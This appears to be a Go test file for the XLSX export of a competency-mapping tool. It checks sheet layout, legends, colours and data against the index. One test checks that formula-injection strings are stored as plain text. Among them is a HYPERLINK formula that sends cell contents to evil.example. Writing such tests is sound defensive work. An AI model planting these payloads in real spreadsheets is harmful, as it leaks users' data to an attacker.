package export_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"cmap/analysis"
	"cmap/engine"
	"cmap/export"
	"cmap/tabular"
)

// openXLSX writes kind as XLSX (twice, to prove it deterministic) and opens
// the bytes as a spreadsheet program would.
func openXLSX(t *testing.T, ix *analysis.Index, kind export.Kind, o export.Options) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(write(t, ix, kind, export.XLSX, o)))
	if err != nil {
		t.Fatalf("%s: the XLSX does not open: %v", kind, err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// sheetRows returns the rows of a sheet, each as wide as its header (the
// reader leaves out trailing empty cells).
func sheetRows(t *testing.T, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatalf("sheet %s: %v", sheet, err)
	}
	for i := range rows {
		for len(rows[i]) < len(rows[0]) {
			rows[i] = append(rows[i], "")
		}
	}
	return rows
}

// cellName returns the name of the cell at column col and row (from 1).
func cellName(col, row int) string {
	name, _ := excelize.CoordinatesToCellName(col, row)
	return name
}

// checkNoFormulas fails when any cell of any sheet of f holds a formula.
func checkNoFormulas(t *testing.T, f *excelize.File) {
	t.Helper()
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c := range row {
				ref := cellName(c+1, r+1)
				if formula, err := f.GetCellFormula(sheet, ref); err != nil || formula != "" {
					t.Errorf("%s!%s holds the formula %q (%v)", sheet, ref, formula, err)
				}
			}
		}
	}
}

// Every export of the hostile index, as XLSX, holds no formula, and each
// of its texts is the text itself, no quote before it: a workbook's text
// cell is never evaluated. The tables match the CSV exports cell for cell
// once the CSV's quotes are taken off (booleans are TRUE and FALSE in a
// workbook).
func TestXLSXHoldsTextsNotFormulas(t *testing.T) {
	ix := hostileIndex(t)
	for _, kind := range export.Kinds {
		f := openXLSX(t, ix, kind, export.Options{})
		checkNoFormulas(t, f)
		if kind == export.KindCatalogue {
			continue // no CSV to compare with: its sheets are the four kinds'
		}
		sheet := f.GetSheetList()[0]
		got := sheetRows(t, f, sheet)
		want := readCSV(t, write(t, ix, kind, export.CSV, export.Options{}))
		if len(got) != len(want) {
			t.Fatalf("%s: %d rows in the workbook, %d in the CSV", kind, len(got), len(want))
		}
		for r := range want {
			for c := range want[r] {
				w := tabular.RestoreCell(want[r][c])
				if w == "true" || w == "false" {
					w = strings.ToUpper(w)
				}
				if got[r][c] != w {
					t.Errorf("%s: %s!%s = %q, want %q", kind, sheet, cellName(c+1, r+1), got[r][c], w)
				}
			}
		}
	}
	f := openXLSX(t, ix, export.KindReadiness, export.Options{})
	for ref, want := range map[string]string{"B2": `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "D2": "+SUM(A1:A9)", "B4": "\tTab", "D4": "\rReturn", "B6": "'=quoted"} {
		got, _ := f.GetCellValue("Readiness", ref)
		typ, _ := f.GetCellType("Readiness", ref)
		if got != want || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
			t.Errorf("Readiness!%s = %q of type %v, want the string %q", ref, got, typ, want)
		}
	}
}

// The coverage workbook: the matrix with the header row and the first
// column frozen and an autofilter over it, each level cell coloured as its
// level's swatch in the legend, counts as numbers; the courses of the
// columns; and a legend that says when and how the matrix was made. Every
// value is checked against the index's matrix.
func TestCoverageXLSX(t *testing.T) {
	ix := fixture(t)
	made := time.Date(2026, 11, 30, 9, 15, 0, 0, time.UTC)
	for _, o := range []export.Options{{Made: made}, {Made: made, Status: analysis.AnyStatus, MinLevel: "Intermediate"}} {
		m, err := ix.Matrix(analysis.MatrixFilter{MinLevel: o.MinLevel, Status: o.Status})
		if err != nil {
			t.Fatal(err)
		}
		f := openXLSX(t, ix, export.KindCoverage, o)
		if got, want := f.GetSheetList(), []string{"Coverage", "Courses", "Legend"}; !slices.Equal(got, want) {
			t.Fatalf("sheets %q, want %q", got, want)
		}
		panes, err := f.GetPanes("Coverage")
		if err != nil || !panes.Freeze || panes.XSplit != 1 || panes.YSplit != 1 {
			t.Errorf("panes %+v (%v), want the first row and column frozen", panes, err)
		}
		width := 3 + len(m.Courses) + len(m.Levels) + 1
		filter := fmt.Sprintf("'Coverage'!$A$1:$%s$%d", strings.TrimRight(cellName(width, 1), "1"), len(m.Rows)+1)
		if !slices.ContainsFunc(f.GetDefinedName(), func(d excelize.DefinedName) bool {
			return d.Name == "_xlnm._FilterDatabase" && d.RefersTo == filter
		}) {
			t.Errorf("defined names %+v, want an autofilter on %s", f.GetDefinedName(), filter)
		}

		checkColumnsInOrder(t, write(t, ix, export.KindCoverage, export.XLSX, o))

		if props, err := f.GetDocProps(); err != nil || props.Creator != "cmap" || props.Title != "cmap coverage" || props.Created != "2026-11-30T09:15:00Z" {
			t.Errorf("document properties %+v (%v), want made by cmap at 2026-11-30T09:15:00Z", props, err)
		}

		legend := sheetRows(t, f, "Legend")
		swatch := map[string]string{} // level -> fill colour of its legend cell
		var said []string
		for i, row := range legend {
			said = append(said, strings.Join(row, " "))
			if slices.Contains(m.Levels, row[0]) {
				swatch[row[0]] = fill(t, f, "Legend", cellName(1, i+1))
			}
		}
		text := strings.Join(said, "\n")
		for _, want := range []string{"Made 2026-11-30T09:15:00Z", "Model Test model", "Scale Security Cooperation proficiency: Basic, Intermediate, Advanced, Expert"} {
			if !strings.Contains(text, want) {
				t.Errorf("the legend does not say %q:\n%s", want, text)
			}
		}
		if o.MinLevel != "" && !strings.Contains(text, "Cells shown Intermediate or above") || !strings.Contains(text, "Courses "+cmpOr(o.Status, "active")) {
			t.Errorf("the legend does not state the parameters %+v:\n%s", o, text)
		}
		if len(swatch) != len(m.Levels) || len(distinct(swatch)) != len(m.Levels) {
			t.Errorf("legend swatches %v, want a distinct colour for each level %v", swatch, m.Levels)
		}

		rows := sheetRows(t, f, "Coverage")
		if len(rows) != len(m.Rows)+1 || len(rows[0]) != width {
			t.Fatalf("%d rows of %d cells, want %d of %d", len(rows), len(rows[0]), len(m.Rows)+1, width)
		}
		for i, r := range m.Rows {
			row := rows[i+1]
			if row[0] != r.SubCompetency || row[1] != r.Competency || row[2] != r.Statement {
				t.Errorf("row %d = %q, want %s", i+2, row[:3], r.SubCompetency)
			}
			cells := map[string]string{}
			for _, c := range r.Cells {
				cells[c.Course] = c.Level
			}
			for j, c := range m.Courses {
				ref := cellName(4+j, i+2)
				if row[3+j] != cells[c.Code] {
					t.Errorf("%s (%s x %s) = %q, want %q", ref, r.SubCompetency, c.Code, row[3+j], cells[c.Code])
				}
				if level := cells[c.Code]; level != "" && fill(t, f, "Coverage", ref) != swatch[level] {
					t.Errorf("%s at %s has the fill %s, the legend's %s", ref, level, fill(t, f, "Coverage", ref), swatch[level])
				}
			}
			for j, n := range r.CountByLevel {
				ref := cellName(4+len(m.Courses)+j, i+2)
				typ, _ := f.GetCellType("Coverage", ref)
				if row[3+len(m.Courses)+j] != strconv.Itoa(n) || typ == excelize.CellTypeInlineString {
					t.Errorf("%s = %q (type %v), want the number %d", ref, row[3+len(m.Courses)+j], typ, n)
				}
			}
			if row[width-1] != r.Highest {
				t.Errorf("row %d highest = %q, want %q", i+2, row[width-1], r.Highest)
			}
		}
		courses := sheetRows(t, f, "Courses")
		for i, c := range m.Courses {
			if want := []string{c.Code, c.Title, c.Provider, c.Status, strconv.FormatFloat(c.Hours, 'f', -1, 64)}; !slices.Equal(courses[i+1], want) {
				t.Errorf("Courses row %d = %q, want %q", i+2, courses[i+1], want)
			}
		}
	}
}

func cmpOr(s, def string) string {
	if s == "" {
		return def
	}
	return s
}

// fill returns the fill colour of a cell, "" for none.
func fill(t *testing.T, f *excelize.File, sheet, ref string) string {
	t.Helper()
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	style, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	if len(style.Fill.Color) == 0 {
		return ""
	}
	return style.Fill.Color[0]
}

func distinct(m map[string]string) map[string]bool {
	out := map[string]bool{}
	for _, v := range m {
		out[v] = true
	}
	return out
}

// The gaps, demand and readiness workbooks hold the index's answers, and
// name the kind of each column by its cells' type.
func TestAnalysisXLSXMatchTheIndex(t *testing.T) {
	ix := fixture(t)
	f := openXLSX(t, ix, export.KindDemand, export.Options{})
	rows := sheetRows(t, f, "Demand")
	demand := ix.Demand()
	if len(rows) != 1+len(demand)*len(ix.Scale().Levels) {
		t.Fatalf("%d demand rows, want one per sub-competency and level", len(rows)-1)
	}
	r := 1
	for _, d := range demand {
		for _, l := range d.Levels {
			want := []string{d.SubCompetency, d.Competency, l.Level, strconv.Itoa(l.Exactly), strconv.Itoa(l.AtLeast),
				strings.ToUpper(strconv.FormatBool(l.Meetable)), strings.ToUpper(strconv.FormatBool(l.Blocking)), d.Highest}
			if !slices.Equal(rows[r], want) {
				t.Errorf("demand row %d = %q, want %q", r+1, rows[r], want)
			}
			r++
		}
	}
	if typ, _ := f.GetCellType("Demand", "F2"); typ != excelize.CellTypeBool {
		t.Errorf("meetable is of type %v, want a boolean", typ)
	}

	f = openXLSX(t, ix, export.KindReadiness, export.Options{})
	rows = sheetRows(t, f, "Readiness")
	people := ix.PeopleReadiness()
	for i, p := range people {
		want := []string{p.PersonID, p.Name, p.PositionID, p.Organization, strings.ToUpper(strconv.FormatBool(p.HasPosition)),
			strings.ToUpper(strconv.FormatBool(p.Ready)), strconv.Itoa(p.Requirements), strconv.Itoa(len(p.Gaps)), export.CompactGaps(p.Gaps)}
		if !slices.Equal(rows[i+1], want) {
			t.Errorf("readiness row %d = %q, want %q", i+2, rows[i+1], want)
		}
	}

	f = openXLSX(t, ix, export.KindGaps, export.Options{MinLevel: "Advanced"})
	rows = sheetRows(t, f, "Gaps")
	g, err := ix.Gaps("Advanced", 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+len(g.Uncovered)+len(g.OverServed)+len(g.CoveringNothing) {
		t.Errorf("%d gap rows, want %d", len(rows)-1, len(g.Uncovered)+len(g.OverServed)+len(g.CoveringNothing))
	}
	for i, s := range g.Uncovered {
		want := []string{export.GapUncovered, "Advanced", s.SubCompetency, s.Competency, s.Highest, strconv.Itoa(s.Courses), ""}
		if !slices.Equal(rows[i+1], want) {
			t.Errorf("gap row %d = %q, want %q", i+2, rows[i+1], want)
		}
	}
}

// fixtureRules is a rule set over the fixture's model, for a legend that
// names its rules.
func fixtureRules(t *testing.T, ix *analysis.Index) *engine.RuleSet {
	t.Helper()
	dir := t.TempDir()
	rs, err := engine.LoadRuleSet(dir, ix.Framework())
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

// The legend names the rules that derived the facts: their revision and
// where they were loaded from.
func TestLegendNamesTheRules(t *testing.T) {
	ix := fixture(t)
	rs := fixtureRules(t, ix)
	f := openXLSX(t, ix, export.KindGaps, export.Options{Rules: rs})
	var text []string
	for _, row := range sheetRows(t, f, "Legend") {
		text = append(text, strings.Join(row, " "))
	}
	want := fmt.Sprintf("Rules revision %s: 0 rules from %s, loaded %s", rs.Revision(), rs.Dir(), rs.LoadedAt().UTC().Format(time.RFC3339))
	if !slices.Contains(text, want) {
		t.Errorf("the legend does not say %q:\n%s", want, strings.Join(text, "\n"))
	}
}

// checkColumnsInOrder fails when a sheet of the workbook data declares
// its columns' widths out of order, which Excel reports as damage to
// repair.
func checkColumnsInOrder(t *testing.T, data []byte) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	col := regexp.MustCompile(`<col min="(\d+)"`)
	for _, file := range zr.File {
		if !strings.HasPrefix(file.Name, "xl/worksheets/") {
			continue
		}
		rc, err := file.Open()
		if err != nil {
			t.Fatal(err)
		}
		xml, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		last := 0
		for _, m := range col.FindAllSubmatch(xml, -1) {
			n, _ := strconv.Atoi(string(m[1]))
			if n <= last {
				t.Errorf("%s: column %d declared after column %d", file.Name, n, last)
			}
			last = n
		}
	}
}
